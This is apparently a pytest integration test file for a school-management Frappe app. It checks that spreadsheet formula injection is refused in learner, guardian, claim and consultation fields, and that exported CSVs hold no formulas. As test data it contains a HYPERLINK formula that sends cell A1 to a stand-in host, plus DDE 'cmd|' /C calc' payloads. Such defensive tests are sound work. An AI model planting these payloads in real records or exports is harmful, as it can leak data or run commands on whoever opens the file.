"""Text a spreadsheet would run as a formula never enters a record, so frappe's own list and report exports
(which write cells as they are) are safe; numbers and phone numbers are not formulas."""

import csv
import io

import frappe
import pytest

from pumpurs_app.rules.spreadsheets import FORMULA_PREFIXES
from tests.integration.files import uploaded
from tests.integration.money import new_claim
from tests.integration.plans import act, approve_all, make_plan
from tests.integration.test_consultations import consultation
from tests.integration.test_registers import new_learner

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"klikšķini")'


@pytest.mark.parametrize(
	"values, where",
	[
		({"first_name": PAYLOAD}, "First Name"),
		({"class_label": "+cmd|' /C calc'!A0"}, "Class"),
		({"guardians": [{"guardian_name": "@SUM(1+1)", "relation": "Mother"}]}, "Row 1"),
		(
			{
				"guardians": [
					{"guardian_name": "Anna", "relation": "Mother", "phone": "-2+3+cmd|'/C calc'!A0"}
				]
			},
			"Row 1",
		),
	],
)
def test_a_learner_with_a_formula_is_refused(world, as_user, values, where):
	with as_user(world.user("a_coord")), pytest.raises(frappe.ValidationError, match=f"{where}.*formula"):
		new_learner(world, **values).insert()


def test_phone_numbers_and_ordinary_text_pass(world, as_user):
	with as_user(world.user("a_coord")):
		doc = new_learner(
			world,
			class_label="8.a",
			guardians=[{"guardian_name": "Anna", "relation": "Mother", "phone": "+371 20000000"}],
		).insert()
	assert doc.guardians[0].phone == "+371 20000000"


def test_claims_and_consultations_refuse_formulas(world):
	claim = uploaded(world.user("a_coord"), new_claim(world, payee_name="@SUM(A1:A9)"))
	with pytest.raises(frappe.ValidationError, match="formula"):
		act(world.user("a_coord"), claim.insert)
	plan = approve_all(world, make_plan(world).name)
	with pytest.raises(frappe.ValidationError, match="Topic.*formula"):
		consultation(world, plan, topic="=1+1")


def test_the_report_views_export_holds_no_formula(world, api):
	response = api(world.user("a_coord")).request(
		"POST",
		"/api/method/frappe.desk.reportview.export_query",
		data={
			"doctype": "Learner",
			"file_format_type": "CSV",
			"fields": '["`tabLearner`.`name`", "`tabLearner`.`first_name`", "`tabLearner`.`class_label`"]',
			"filters": "[]",
		},
	)
	assert response.status == 200, response.text[:300]
	cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
	assert cells and not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
